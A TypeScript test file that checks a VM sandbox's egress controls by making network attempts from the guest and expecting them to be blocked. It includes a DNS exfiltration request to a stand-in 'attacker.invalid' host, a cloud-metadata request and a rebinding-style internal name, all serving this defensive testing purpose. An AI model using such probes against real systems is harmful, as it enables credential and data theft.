// What a guest can reach beyond HTTP(S), on one real VM: raw TCP, UDP, DNS, IPv6, the cloud
// metadata address and the gateway. Every attempt is made from the guest with python3 and short
// timeouts (test/support/egress-probe.py); what is allowed is shown to work next to what is not,
// so that a broken network cannot pass for a blocked one.
//
// Nothing here leaves this machine: attempts at public addresses end inside Gondolin's stack on
// the host, and the host's resolver is never asked: this file answers `dns.lookup` itself (the
// function Gondolin resolves HTTP host names with) and records every name it is asked for.
import { randomBytes } from "node:crypto";
import dgram from "node:dgram";
import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import path from "node:path";
import { DiskStore, runInGuest, startVm, type EgressEvent, type RunningVm } from "../src/index.js";
import { tempDir } from "./support/helpers.js";
import { sh, testImage, vmOptions } from "./support/vm-support.js";

/** Gondolin's gateway (checked against the guest's default route below). */
const GATEWAY = "192.168.127.1";
/** What Gondolin's DNS answers for every A query but localhost. */
const SYNTHETIC_A = "192.0.2.1";
/** Names this file resolves in place of the host's resolver. */
const NAMES: Readonly<Record<string, string>> = {
  "pisb-allowed.test": "127.0.0.1", // allowed, and allowed to be internal: a host-side service
  "pisb-internal.test": "127.0.0.1", // allowed by name, but resolves to an internal address
};

let root: string;
let cleanup: () => Promise<void>;
let vm: RunningVm;
const originalLookup = dns.lookup;
const seen = { tcpAccepts: 0, udpMessages: [] as string[], httpRequests: [] as string[], lookups: [] as string[] };
const egress: EgressEvent[] = [];
let tcpServer: net.Server;
let udpServer: dgram.Socket;
let httpServer: http.Server;
let tcpPort: number;
let udpPort: number;
let httpPort: number;

function fakeLookup(hostname: string, options: unknown, callback?: (...args: unknown[]) => void): void {
  const done = (typeof options === "function" ? options : callback) as (...args: unknown[]) => void;
  const all = typeof options === "object" && options !== null && (options as { all?: boolean }).all === true;
  seen.lookups.push(hostname);
  const address = net.isIP(hostname) ? hostname : NAMES[hostname];
  if (!address) {
    const error = Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: "ENOTFOUND", hostname });
    process.nextTick(done, error);
    return;
  }
  const family = net.isIP(address);
  if (all) process.nextTick(done, null, [{ address, family }]);
  else process.nextTick(done, null, address, family);
}

beforeAll(async () => {
  ({ dir: root, cleanup } = await tempDir("pisb-egress-"));
  // Host-side services on 127.0.0.1: each would answer anything that reached it.
  tcpServer = net.createServer((socket) => {
    seen.tcpAccepts++;
    socket.on("error", () => undefined);
    socket.end("banner from the host\n");
  });
  await new Promise<void>((resolve) => tcpServer.listen(0, "127.0.0.1", resolve));
  tcpPort = (tcpServer.address() as net.AddressInfo).port;
  udpServer = dgram.createSocket("udp4");
  udpServer.on("message", (message, from) => {
    seen.udpMessages.push(String(message));
    udpServer.send(`echo ${message}`, from.port, from.address);
  });
  await new Promise<void>((resolve) => udpServer.bind(0, "127.0.0.1", resolve));
  udpPort = udpServer.address().port;
  httpServer = http.createServer((req, res) => {
    seen.httpRequests.push(req.url ?? "");
    // /bytes/N: N bytes in pieces, after reading the request body whole.
    const size = /^\/bytes\/(\d+)$/.exec(req.url ?? "")?.[1];
    if (size === undefined) return void res.end("host server");
    req.resume();
    req.on("end", () => {
      const piece = Buffer.alloc(65536, 0x62);
      for (let left = Number(size); left > 0; left -= piece.length)
        res.write(piece.subarray(0, Math.min(left, piece.length)));
      res.end();
    });
  });
  await new Promise<void>((resolve) => httpServer.listen(0, "127.0.0.1", resolve));
  httpPort = (httpServer.address() as net.AddressInfo).port;
  (dns as { lookup: unknown }).lookup = fakeLookup;

  const stateRoot = path.join(root, "state");
  const diskDir = path.join(root, "disk");
  await new DiskStore({ stateRoot }).createDisk(diskDir, { image: testImage(), diskGiB: 2 });
  vm = await startVm(
    vmOptions("egress", diskDir, stateRoot, {
      allowedHosts: ["127.0.0.1", "pisb-allowed.test", "pisb-internal.test"],
      allowedInternalHosts: ["127.0.0.1", "pisb-allowed.test"],
      onEgress: (event) => egress.push(event),
    }),
  );
  await vm.writeFile("/tmp/egress-probe.py", fs.readFileSync(new URL("./support/egress-probe.py", import.meta.url)));
});

afterAll(async () => {
  await vm?.close();
  (dns as { lookup: unknown }).lookup = originalLookup;
  tcpServer?.close();
  udpServer?.close();
  httpServer?.close();
  await cleanup?.();
});

type Probe =
  | { kind: "tcp"; host: string; port: number; send?: string; family?: 6; timeout?: number }
  | { kind: "udp"; host: string; port: number; send?: string; family?: 6 }
  | { kind: "dns"; server: string; name: string; type?: "A" | "AAAA" | "TXT" };

/** Runs the probes in the guest (in parallel) and returns their outcomes in order. */
async function probe(probes: Probe[]): Promise<string[]> {
  const result = await runInGuest(vm, ["python3", "/tmp/egress-probe.py", JSON.stringify(probes)]);
  if (result.exitCode !== 0) throw new Error(`egress-probe.py failed (${result.exitCode}): ${result.stderr}`);
  return JSON.parse(result.stdout) as string[];
}

/** The HTTP status curl in the guest gets for `url` (with a Host header), or "000" with no response. */
async function httpStatus(url: string, hostHeader?: string): Promise<string> {
  const header = hostHeader ? ["-H", `Host: ${hostHeader}`] : [];
  // -k: the guest need not trust Gondolin's MITM CA for the policy's answer to show.
  const args = ["curl", "-ksS", "-m", "30", "-o", "/dev/null", "-w", "%{http_code}", ...header, url];
  const result = await runInGuest(vm, args);
  return result.stdout.trim();
}

test("raw TCP to an IP address is reset at its first bytes, before any host socket exists", async () => {
  // The gateway is where Gondolin maps the host's 127.0.0.1; 1.1.1.1 stands for the internet.
  const outcomes = await probe([
    { kind: "tcp", host: GATEWAY, port: tcpPort }, // waits for the host server's banner
    { kind: "tcp", host: GATEWAY, port: tcpPort, send: "hello\n" },
    { kind: "tcp", host: GATEWAY, port: tcpPort, send: `CONNECT 127.0.0.1:${tcpPort} HTTP/1.1\r\n\r\n` },
    { kind: "tcp", host: "1.1.1.1", port: 443, send: "not a TLS hello\n" },
    { kind: "tcp", host: "1.1.1.1", port: 22, send: "SSH-2.0-probe\r\n" },
  ]);
  // The handshake is Gondolin's own (it accepts any SYN); the flow dies once it is neither HTTP
  // nor TLS. No banner ever arrives, and the host server never sees a connection.
  expect(outcomes).toEqual(["silent", "reset", "reset", "reset", "reset"]);
  expect(seen.tcpAccepts).toBe(0);
  // The same address carries HTTP to the host's 127.0.0.1, which is on this VM's list.
  expect(await httpStatus(`http://${GATEWAY}:${httpPort}/via-gateway`, `127.0.0.1:${httpPort}`)).toBe("200");
  expect(seen.httpRequests).toContain("/via-gateway");
});

test("UDP to any port but 53 is dropped, and so is anything on 53 that is not a DNS query", async () => {
  const outcomes = await probe([
    { kind: "udp", host: GATEWAY, port: udpPort, send: "to the host" }, // the host server echoes
    { kind: "udp", host: "1.1.1.1", port: 443, send: "quic?" },
    { kind: "udp", host: "1.1.1.1", port: 123 },
    { kind: "udp", host: GATEWAY, port: 53, send: "not a DNS query" },
    { kind: "dns", server: GATEWAY, name: "example.com" },
  ]);
  expect(outcomes).toEqual(["no-reply", "no-reply", "no-reply", "no-reply", `rcode=0 answers=${SYNTHETIC_A}`]);
  expect(seen.udpMessages).toEqual([]);
});

test("DNS is answered by Gondolin's stack, and no guest-chosen name reaches the host's resolver", async () => {
  const tag = randomBytes(4).toString("hex");
  const missing = `pisb-${tag}.invalid`; // NXDOMAIN from any real resolver
  expect(await sh(vm, "cat /etc/resolv.conf")).toContain(`nameserver ${GATEWAY}`);
  const outcomes = await probe([
    { kind: "dns", server: GATEWAY, name: missing },
    { kind: "dns", server: GATEWAY, name: "example.com", type: "AAAA" },
    { kind: "dns", server: GATEWAY, name: "example.com", type: "TXT" },
    { kind: "dns", server: GATEWAY, name: "localhost" },
    { kind: "dns", server: "192.0.2.53", name: missing }, // no server there: answered all the same
  ]);
  expect(outcomes).toEqual([
    `rcode=0 answers=${SYNTHETIC_A}`,
    "rcode=0 answers=2001:db8::1",
    "rcode=0 answers=",
    "rcode=0 answers=127.0.0.1",
    `rcode=0 answers=${SYNTHETIC_A}`,
  ]);
  expect(await sh(vm, `getent ahostsv4 ${missing}`)).toMatch(new RegExp(`^${SYNTHETIC_A.replace(/\./g, "\\.")}\\s`));

  // HTTP is routed by name, which the host resolves. Gondolin 0.12 resolves the name before it
  // checks it against the list, so a Host header alone would carry data to the host's resolver;
  // our policy refuses the name first.
  const leak = `secret-${tag}.attacker.invalid`;
  expect(await httpStatus(`http://${SYNTHETIC_A}/`, leak)).toBe("403");
  expect(await httpStatus(`https://${leak}/`)).toBe("403"); // by its SNI and Host, through the MITM
  expect(seen.lookups.filter((name) => name.includes(tag))).toEqual([]);
  // An allowed name is resolved on the host (through this file's lookup) and reached.
  expect(await httpStatus(`http://${SYNTHETIC_A}:${httpPort}/by-name`, `pisb-allowed.test:${httpPort}`)).toBe("200");
  expect(seen.lookups).toContain("pisb-allowed.test");
  expect(seen.httpRequests).toContain("/by-name");
});

test("IPv6 goes nowhere: no route, and nothing answers on the link", async () => {
  expect(await sh(vm, "ip -6 route show default")).toBe("");
  const outcomes = await probe([
    { kind: "tcp", family: 6, host: "2606:4700:4700::1111", port: 443 },
    { kind: "tcp", family: 6, host: "2001:db8::1", port: 80 }, // what Gondolin's DNS answers for AAAA
    { kind: "udp", family: 6, host: "2606:4700:4700::1111", port: 53 },
    { kind: "tcp", family: 6, host: "fe80::1%eth0", port: 80, timeout: 5 }, // on-link: no neighbour
  ]);
  expect(outcomes.slice(0, 3)).toEqual([
    "connect-failed:ENETUNREACH",
    "connect-failed:ENETUNREACH",
    "send-failed:ENETUNREACH",
  ]);
  expect(outcomes[3]).toMatch(/^(connect-timeout|connect-failed:EHOSTUNREACH)$/);
  // IPv4 from the same guest works (the first test's HTTP), so this is the policy, not a dead link.
});

test("169.254.169.254 (cloud metadata) is refused, also behind an allowed name", async () => {
  expect(await probe([{ kind: "tcp", host: "169.254.169.254", port: 80, send: "raw bytes\n" }])).toEqual(["reset"]);
  expect(await httpStatus("http://169.254.169.254/latest/meta-data/")).toBe("403");
  // A name on the list that resolves to an internal address (as a rebinding name would resolve
  // to 169.254.169.254) is refused by address: here to 127.0.0.1, whose server must see nothing.
  const rebound = await httpStatus(`http://${SYNTHETIC_A}:${httpPort}/rebound`, `pisb-internal.test:${httpPort}`);
  expect(rebound).toBe("403");
  expect(seen.lookups).toContain("pisb-internal.test");
  expect(seen.httpRequests).not.toContain("/rebound");
});

test("the gateway serves DHCP, DNS and ICMP echo only; its other ports are closed to the guest", async () => {
  expect(await sh(vm, "ip -4 route show default")).toContain(`default via ${GATEWAY} dev eth0`);
  expect(await sh(vm, "ip -4 -o addr show dev eth0")).toContain("192.168.127.3/24"); // Gondolin's DHCP lease
  const outcomes = await probe([
    { kind: "dns", server: GATEWAY, name: "example.com" },
    { kind: "tcp", host: GATEWAY, port: 53, send: "\u0000\u001cdns over tcp" },
    { kind: "tcp", host: GATEWAY, port: 22, send: "SSH-2.0-probe\r\n" },
    { kind: "tcp", host: GATEWAY, port: 80, send: "raw bytes\n" },
    { kind: "tcp", host: GATEWAY, port: tcpPort, send: "raw bytes\n" },
    { kind: "udp", host: GATEWAY, port: 123 },
    { kind: "udp", host: GATEWAY, port: 5353 },
    { kind: "udp", host: GATEWAY, port: udpPort },
  ]);
  expect(outcomes).toEqual([
    `rcode=0 answers=${SYNTHETIC_A}`,
    "reset",
    "reset",
    "reset",
    "reset",
    "no-reply",
    "no-reply",
    "no-reply",
  ]);
  expect(seen.tcpAccepts).toBe(0);
  expect(seen.udpMessages).toEqual([]);
  // HTTP to the gateway goes where its Host header says, if listed: the gateway itself is not.
  expect(await httpStatus(`http://${GATEWAY}:${httpPort}/gateway`, `${GATEWAY}:${httpPort}`)).toBe("403");
  expect(seen.httpRequests).not.toContain("/gateway");
  // Gondolin answers every ICMP echo itself, even for an address where nothing exists: a ping
  // from the guest says nothing about what it can reach.
  expect((await runInGuest(vm, ["busybox", "ping", "-c", "1", "-W", "5", "192.0.2.77"])).exitCode).toBe(0);
});

test("a guest download and upload through egress are reported with their body bytes each way, counted on the host", async () => {
  const upload = 5000;
  const download = 3 * 1024 * 1024 + 7;
  const url = `http://pisb-allowed.test:${httpPort}/bytes/${download}`;
  await vm.writeFile("/tmp/upload.bin", Buffer.alloc(upload, 0x63));
  const result = await runInGuest(vm, [
    "curl",
    "-sS",
    "-m",
    "60",
    "--data-binary",
    "@/tmp/upload.bin",
    "-o",
    "/tmp/download.bin",
    "-w",
    "%{size_download}",
    url,
  ]);
  expect(result.stdout.trim()).toBe(String(download));
  // The report comes once Gondolin has read the body to its end, which may be just after curl is done.
  const deadline = Date.now() + 10_000;
  const isOurs = (event: EgressEvent) =>
    event.kind === "bytes" && event.host === "pisb-allowed.test" && event.method === "POST";
  while (!egress.some(isOurs) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
  expect(egress.filter(isOurs)).toEqual([
    {
      kind: "bytes",
      host: "pisb-allowed.test",
      port: httpPort,
      protocol: "http",
      method: "POST",
      bytesOut: upload,
      bytesIn: download,
    },
  ]);
  expect(egress).toContainEqual({
    kind: "request",
    host: "pisb-allowed.test",
    port: httpPort,
    protocol: "http",
    method: "POST",
    allowed: true,
    rule: "allowedHosts",
  });
});
